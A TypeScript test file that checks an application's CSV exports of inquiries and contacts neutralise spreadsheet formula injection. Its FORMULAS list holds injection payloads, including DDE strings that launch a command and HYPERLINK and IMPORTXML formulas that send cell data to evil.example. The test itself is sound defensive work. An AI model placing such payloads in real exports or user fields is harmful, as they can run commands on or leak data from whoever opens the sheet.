import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, test } from 'vitest';
import { guardFormula, unguardFormula } from '../../../src/server/platform/csv.ts';
import { CONTACT_COLUMNS } from '../../../src/shared/features/contacts/contacts.columns.ts';
import { INQUIRY_COLUMN_LABELS, INQUIRY_COLUMNS } from '../../../src/shared/features/inquiries/inquiries.columns.ts';
import { startTestApp } from '../../support/app.ts';
import { NAUGHTY_STRINGS } from '../../support/matrix/naughty.ts';
import { streamRoutesOf } from '../../support/routes.ts';

const app = await startTestApp({ limited: false });
const admin = await app.signIn('admin');

const FORMULAS = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  '=IMPORTXML(CONCAT("https://evil.example/",A1:A9),"//a")',
  '+SUM(A1:A9)',
  '+cmd|"/c calc"!A0',
  '-2+3+cmd|"/c calc"!A0',
  '-SUM(1)*9',
  '@SUM(1+1)*cmd|"/c calc"!A0',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  "''=1+1",
  '=1+1",="2',
  '=1+1\r\n=2+2',
  '"=1+1"',
  '=DDE("cmd";"/C calc";"x")',
  '=',
  '+',
  '@',
];
/** What a name can hold: Postgres takes neither NUL nor half a character. */
const TEXTS = [...new Set([...FORMULAS, ...NAUGHTY_STRINGS])].filter(
  (text) => text !== '' && text.length <= 100 && Buffer.from(text).toString() === text && !text.includes('\0'),
);

/** Every export: its address, and the columns that hold what people typed. */
const EXPORTS: Record<string, { columns: readonly string[]; holding: readonly string[] }> = {
  '/api/opportunities_export': {
    columns: INQUIRY_COLUMNS,
    holding: [INQUIRY_COLUMN_LABELS.referral_org, INQUIRY_COLUMN_LABELS.medication_plan],
  },
  '/api/contacts_export': {
    columns: CONTACT_COLUMNS,
    holding: ['First Name', 'Last Name', 'Address', 'Organization Name'],
  },
};

beforeAll(() =>
  app.within('a', async (tx) => {
    const { newId } = tx.services;
    const own = { org_id: tx.actor.org_id };
    const patient_id = newId();
    const client = { ...own, id: patient_id, firstname: 'Dana', lastname: 'Sample' };
    await tx.db.insertInto('clients').values(client).execute();
    const created_at = '2026-05-13T12:00:00Z';
    const inquiry = {
      ...own,
      patient_id,
      created_at,
      client_name: 'Dana Sample',
      client_phone: null,
      condition: [],
      staff: [],
    };
    await tx.db
      .insertInto('inquiries')
      .values(
        TEXTS.map((text, n) => ({
          ...inquiry,
          id: newId(),
          opportunity_name: `Dana Sample-${1_000 + n}`,
          referral_org: text,
          medication_plan: text,
        })),
      )
      .execute();
    const referral_id = newId();
    const source = { ...own, id: referral_id, referral_name: 'Alder House', type: 'School' };
    await tx.db.insertInto('referral_sources').values(source).execute();
    await tx.db
      .insertInto('referral_contacts')
      .values(
        TEXTS.map((text) => ({
          ...own,
          id: newId(),
          referral_id,
          organization_name: text,
          firstname: text,
          lastname: text,
          address: text,
        })),
      )
      .execute();
  }),
);

async function fileOf(path: string): Promise<string> {
  const columns = EXPORTS[path]?.columns.join(',') ?? '';
  const answer = await fetch(`${app.url}${path}?${new URLSearchParams({ columns })}`, {
    headers: { authorization: `Bearer ${admin.token}` },
  });
  expect(answer.status).toBe(200);
  return Buffer.from(await answer.arrayBuffer()).toString();
}

const BEGINS = /^[=+\-@\t\r]/;
const PLAIN = /^[+\d()\-. ]+$/;

test('every export is among them', () => {
  const exporting = new Set(streamRoutesOf().flatMap(({ path }) => (path.endsWith('_export') ? [path] : [])));
  expect([...exporting].sort()).toEqual(Object.keys(EXPORTS).sort());
});

describe.each(Object.entries(EXPORTS))('%s', (path, { holding }) => {
  test('holds what was typed, once the guard is taken off, and nothing that begins a formula', async () => {
    const rows: string[][] = parse(await fileOf(path), { bom: true, record_delimiter: '\r\n' });
    const [head = [], ...records] = rows;
    for (const cell of rows.flat()) expect(BEGINS.test(cell) && !PLAIN.test(cell)).toBe(false);
    for (const name of holding) {
      const at = head.indexOf(name);
      expect(at).toBeGreaterThan(-1);
      const read = records.map((record) => unguardFormula(record[at] ?? ''));
      expect(read.sort()).toEqual([...TEXTS].sort());
    }
  });

  test('is opened by a spreadsheet with texts alone where a formula was typed', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = await workbook.csv.read(Readable.from([await fileOf(path)]), { map: (value: string) => value });
    let texts = 0;
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect([ExcelJS.ValueType.Formula, ExcelJS.ValueType.Hyperlink]).not.toContain(cell.type);
        if (FORMULAS.map(guardFormula).includes(cell.text)) texts += 1;
      }),
    );
    expect(texts).toBeGreaterThanOrEqual(FORMULAS.length * holding.length);
  });
});
